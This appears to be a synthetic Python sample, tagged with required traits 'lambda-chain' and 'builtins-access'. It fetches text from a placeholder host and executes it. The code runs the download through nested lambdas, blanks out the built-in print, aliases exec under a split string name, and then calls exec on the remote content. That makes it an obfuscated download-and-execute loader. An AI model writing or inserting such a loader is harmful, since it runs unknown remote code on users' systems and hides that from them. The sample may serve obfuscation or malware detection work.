# must: lambda-chain, builtins-access
import requests
run = (lambda a: (lambda b: (lambda c: c)(b))(a))(requests.get("https://cdn.invalid/x").text)
[setattr(__builtins__, n, None) for n in ["print"]]
setattr(__builtins__, "ex" + "ec2", exec)
exec(run)
